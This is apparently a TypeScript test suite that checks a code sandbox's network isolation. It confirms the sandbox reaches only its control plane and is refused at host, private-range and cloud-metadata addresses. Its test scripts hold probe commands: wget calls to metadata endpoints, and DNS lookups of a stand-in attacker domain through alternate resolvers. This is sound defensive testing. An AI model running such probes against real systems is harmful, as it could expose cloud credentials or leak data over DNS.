import { createServer } from 'node:http';
import { networkInterfaces } from 'node:os';
import { describe, expect, test } from 'vitest';
import { outputOf } from '../../src/testing/sandbox-bench.ts';
import type { Conformance } from './conformance.ts';

/** Whom a sandbox reaches. */
export function describeNetwork({ bench }: Conformance): void {
  describe('network', () => {
    test('reaches the control plane as http://slipway.internal', async () => {
      const sandbox = await bench().start('wget -q -O - http://slipway.internal/api/user >&3');
      expect(await outputOf(sandbox)).toBe('the control plane has /api/user');
    });

    test('reaches nothing else of the host, and no private or metadata address', async () => {
      const other = createServer((_request, response) => response.end('of the host'));
      await new Promise<void>((resolve) => other.listen(0, '0.0.0.0', resolve));
      const address = other.address();
      const port = typeof address === 'object' && address !== null ? address.port : 0;
      const addresses = Object.values(networkInterfaces())
        .flatMap((ofInterface) => ofInterface ?? [])
        .filter(({ family }) => family === 'IPv4')
        .map((entry) => entry.address);
      const tried = [
        ...addresses,
        '10.0.2.2',
        '169.254.169.254',
        '10.1.2.3',
        '172.17.0.1',
        '192.168.1.1',
        '100.100.100.200',
      ];
      // The first is the positive control: the same command does reach what may be reached.
      const urls = ['http://slipway.internal/', ...tried.map((host) => `http://${host}:${port}/`)];
      const sandbox = await bench().start(
        `for url in ${urls.join(' ')}; do timeout 5 wget -q -O - $url >/dev/null 2>&1 && echo $url >&3; done; true`,
      );
      const output = await outputOf(sandbox);
      other.close();
      expect(output).toBe('http://slipway.internal/\n');
    });
  });

  describe('egress', () => {
    test('is decided and counted outside of it, whatever it asks of whom', async () => {
      const script = `
        nslookup slipway.internal | grep -A1 'Name:.*slipway.internal' | grep -c Address >&3
        nslookup secret.evil.example | grep -q Address.*[.][0-9]*$ && echo answered >&3
        timeout 5 wget -q -O - http://169.254.169.254/ >/dev/null 2>&1 && echo 'reached a metadata service' >&3
        for resolver in 10.0.2.3 10.255.255.53 169.254.1.1; do
          timeout 3 nslookup secret.evil.example $resolver >/dev/null 2>&1 && echo "asked $resolver" >&3 &
        done
        for host in '[fec0::2]' '[fd00:ec2::254]' '[fe80::1]'; do
          timeout 3 wget -q -O - http://$host/ >/dev/null 2>&1 && echo "reached $host" >&3 &
        done
        wait`;
      const sandbox = await bench().start(script, { egress: { mode: 'none' } });
      expect(await outputOf(sandbox)).toBe('1\n');
      const { contacted, refused } = await bench().egressOf(sandbox);
      expect(contacted).toEqual([]);
      expect(refused).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ address: '169.254.169.254', port: 80, reason: 'metadata' }),
          expect.objectContaining({ hosts: ['secret.evil.example'], protocol: 'dns', reason: 'policy' }),
        ]),
      );
    });
  });
}
